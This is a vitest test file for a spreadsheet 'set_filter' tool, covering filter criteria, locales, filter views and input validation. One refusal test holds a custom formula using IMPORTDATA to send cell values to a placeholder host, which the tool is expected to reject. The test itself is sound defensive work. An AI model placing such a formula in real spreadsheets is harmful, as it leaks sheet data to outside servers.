// Filters and filter views, set and read back through the front door.

import { describe, expect, test } from 'vitest';
import { testApp } from '../support/app.ts';
import { done, elsewhere, losesReply, newBook, type Rows, refused, rowsOf, sheetsOf } from '../support/tool-calls.ts';
import { createWorld, startApp } from '../support/wired-app.ts';

const writeId = expect.any(String);
const TABLE: Rows = [
  ['name', 'day', 'cost'],
  ['cab', '2026-03-01', 5],
  ['Abe', '2026-01-01', 7.5],
  ['bee', '', 12],
];

async function wired(rows = TABLE, locale = 'en_US') {
  const world = await createWorld();
  const app = await startApp(world);
  const id = await newBook(app, { S: rows, T: [] });
  if (locale !== 'en_US')
    await elsewhere(world, id, { updateSpreadsheetProperties: { properties: { locale }, fields: 'locale' } });
  const set = (input: object) => done(app, 'set_filter', { spreadsheet: id, range: 'S', ...input });
  return {
    world,
    app,
    id,
    set,
    refuse: (input: object) => refused(app, 'set_filter', { spreadsheet: id, range: 'S', ...input }),
    sheet: async () => (await sheetsOf(app, id)).get('S'),
    /** Numbers of the rows that the filter hides. */
    hidden: async () => {
      const { body } = await world.direct(`/${id}?fields=sheets.data.rowMetadata.hiddenByFilter&ranges=S!A1:A6`);
      const rows: { hiddenByFilter?: boolean }[] = body.sheets[0].data[0].rowMetadata ?? [];
      return rows.flatMap(({ hiddenByFilter }, at) => (hiddenByFilter ? [at + 1] : []));
    },
  };
}

describe('set_filter', () => {
  test('sets the filter in the place of the one before, and takes it away', async () => {
    const { set, sheet, hidden } = await wired();
    expect(await set({})).toEqual({ status: 'applied', range: "'S'!A1:Z1000", writeId });
    expect([(await sheet())?.filter, await hidden()]).toEqual(['A1:Z1000', []]);
    await set({
      range: 'S!A1:C4',
      criteria: [
        { column: 'cost', type: 'number_greater', values: [6] },
        { column: 'A', hide: ['bee', 'x'] },
      ],
    });
    expect([(await sheet())?.filter, await hidden()]).toEqual(['A1:C4: A hides 2, C number_greater 6', [2, 4]]);
    expect(await set({ criteria: null })).toEqual({ status: 'applied', writeId });
    expect([(await sheet())?.filter, await hidden()]).toEqual([undefined, []]);
    expect(await set({ criteria: null })).toEqual({ status: 'unchanged', writeId });
  });

  /** Rows of TABLE that are hidden, of which the first is its header. */
  test.each<[string, object, number[]]>([
    ['=', { column: 'cost', type: 'number_eq', values: [5] }, [3, 4]],
    ['!=', { column: 'cost', type: 'number_not_eq', values: [5] }, [2]],
    ['>= of a fraction', { column: 'cost', type: 'number_greater_than_eq', values: [7.5] }, [2]],
    ['<', { column: 'cost', type: 'number_less', values: [7.5] }, [3, 4]],
    ['<=', { column: 'cost', type: 'number_less_than_eq', values: [7.5] }, [4]],
    ['between', { column: 'cost', type: 'number_between', values: [6, 8] }, [2, 4]],
    ['= of a text', { column: 'name', type: 'text_eq', values: ['cab'] }, [3, 4]],
    ['contains', { column: 'name', type: 'text_contains', values: ['e'] }, [2]],
    ['not_contains', { column: 'name', type: 'text_not_contains', values: ['e'] }, [3, 4]],
    ['starts_with', { column: 'name', type: 'text_starts_with', values: ['b'] }, [2, 3]],
    ['ends_with', { column: 'name', type: 'text_ends_with', values: ['b'] }, [3, 4]],
    ['a day', { column: 'day', type: 'date_eq', values: ['2026-01-01'] }, [2, 4]],
    ['after a day', { column: 'day', type: 'date_after', values: ['2026-01-31'] }, [3, 4]],
    ['before a day', { column: 'day', type: 'date_before', values: ['2026-01-31'] }, [2, 4]],
    ['blank', { column: 'day', type: 'blank' }, [2, 3]],
    ['not_blank', { column: 'day', type: 'not_blank' }, [4]],
    ['a formula', { column: 'name', type: 'custom_formula', values: ['=$C2*2>11'] }, [2]],
    ['a condition and hidden values', { column: 'cost', type: 'number_greater', values: [6], hide: ['12'] }, [2, 4]],
  ])('%s', async (_, criterion, rows) => {
    const { set, hidden } = await wired();
    await set({ range: 'S!A1:C4', criteria: [criterion] });
    expect(await hidden()).toEqual(rows);
  });

  test('numbers are typed as the locale of the spreadsheet has them', async () => {
    const { set, hidden, sheet } = await wired(TABLE, 'de_DE');
    await set({ range: 'S!A1:C4', criteria: [{ column: 'cost', type: 'number_greater_than_eq', values: [7.5] }] });
    expect([await hidden(), (await sheet())?.filter]).toEqual([[2], 'A1:C4: C number_greater_than_eq 7,5']);
  });

  test('begins at the header of the sheet where the range is open above', async () => {
    const { set, hidden, sheet } = await wired([['Report'], [], ['x', 'n', 'm'], ['b', 2], ['a', 3]]);
    expect(await set({ criteria: [{ column: 'n', type: 'number_greater', values: [2] }] })).toMatchObject({
      range: "'S'!A3:Z1000",
    });
    expect([await hidden(), (await sheet())?.filter]).toEqual([[4, 6], 'A3:Z1000: B number_greater 2']);
  });

  test.each<[string, object, string]>([
    [
      'an unknown column',
      { criteria: [{ column: 'price', type: 'number_greater', values: [1] }] },
      'criteria[0].column: "price" is no column of the range, which has A to Z. Columns: name, day, cost.',
    ],
    [
      'a column outside',
      { range: 'S!A1:B4', criteria: [{ column: 'C', type: 'blank' }] },
      'criteria[0].column: "C" is no column of the range, which has A to B.',
    ],
    [
      'one column twice',
      {
        criteria: [
          { column: 'C', type: 'blank' },
          { column: 'cost', hide: ['5'] },
        ],
      },
      'criteria[1]: column C is named twice.',
    ],
    [
      'a criterion of nothing',
      { criteria: [{ column: 'C' }] },
      'criteria[0]: needs type, with values where it takes some, or hide',
    ],
    ['a value without op', { criteria: [{ column: 'C', values: [4] }] }, 'criteria[0]: needs type'],
    [
      'a value too few',
      { criteria: [{ column: 'C', type: 'number_between', values: [4] }] },
      'criteria[0]: values: number_between takes 2, not 1',
    ],
    [
      'a value too many',
      { criteria: [{ column: 'C', type: 'blank', values: [4] }] },
      'criteria[0]: values: blank takes 0, not 1',
    ],
    [
      'what Sheets has not',
      { criteria: [{ column: 'day', type: 'date_on_or_after', values: ['2026-01-01'] }] },
      'set_filter: criteria[0].type: ',
    ],
    [
      'an op that is none',
      { criteria: [{ column: 'C', type: 'like', values: ['x'] }] },
      'set_filter: criteria[0].type: ',
    ],
    [
      'a value that is none',
      { criteria: [{ column: 'C', type: 'text_eq', values: [true] }] },
      'criteria[0].values[0]: expected a text or a number',
    ],
    [
      'a formula that is none',
      { criteria: [{ column: 'C', type: 'custom_formula', values: ['C2>1'] }] },
      'criteria[0]: values: a formula begins with "="',
    ],
    [
      'a formula that fetches',
      { criteria: [{ column: 'C', type: 'custom_formula', values: ['=IMPORTDATA("http://x/"&C2)=1'] }] },
      'unsupported: criteria[0].values[0]: ',
    ],
    [
      'a view that is not there',
      { criteria: null, view: 'Mine' },
      'not_found: S has no filter view "Mine". Its views: none.',
    ],
    ['an unknown sheet', { range: 'Ss' }, 'Did you mean "S"?'],
  ])('refuses %s', async (_, input, words) => {
    const { refuse, sheet } = await wired();
    expect(await refuse(input)).toContain(words);
    expect((await sheet())?.filter).toBeUndefined();
  });
});

describe('a filter view', () => {
  test('is made, changed by its title, and taken away', async () => {
    const { set, sheet, hidden } = await wired();
    const { filterViewId, ...answer } = await set({
      view: 'Dear',
      criteria: [{ column: 'cost', type: 'number_greater', values: [10] }],
    });
    expect(answer).toEqual({ status: 'applied', range: "'S'!A1:Z1000", writeId });
    expect([(await sheet())?.filterViews, await hidden()]).toEqual([
      [`${filterViewId}: Dear (A1:Z1000: C number_greater 10)`],
      [],
    ]);
    expect(await set({ view: 'Dear', range: 'S!A1:C4' })).toMatchObject({ filterViewId });
    expect((await sheet())?.filterViews).toEqual([`${filterViewId}: Dear (A1:C4)`]);
    await set({ view: 'Other', range: 'S!A1:B4' });
    await set({ view: 'Dear', criteria: null });
    expect((await sheet())?.filterViews).toEqual([expect.stringMatching(/^\d+: Other \(A1:B4\)$/)]);
  });

  test('of a title that two have is not guessed', async () => {
    const { world, id, refuse } = await wired();
    const sheetId = (await world.direct(`/${id}?fields=sheets.properties`)).body.sheets[0].properties.sheetId;
    const view = { addFilterView: { filter: { title: 'Twin', range: { sheetId } } } };
    await elsewhere(world, id, view, view);
    expect(await refuse({ view: 'Twin' })).toContain('conflict: S has several filter views "Twin"');
  });

  test('has its id told though the reply was lost', async () => {
    const { world, app, id, sheet } = await wired();
    losesReply(world);
    const input = { spreadsheet: id, range: 'S!A1:C4', view: 'Mine' };
    const { filterViewId } = await world.until(app.run('set_filter', input));
    expect((await sheet())?.filterViews).toEqual([`${filterViewId}: Mine (A1:C4)`]);
  });
});

test('a filter hides rows and changes none', async () => {
  const app = await testApp();
  const id = await newBook(app, { S: TABLE });
  await done(app, 'set_filter', {
    spreadsheet: id,
    range: 'S',
    criteria: '[{"column":"cost","type":"number_greater","values":[100]}]',
  });
  expect(await rowsOf(app, id)).toHaveLength(4);
});
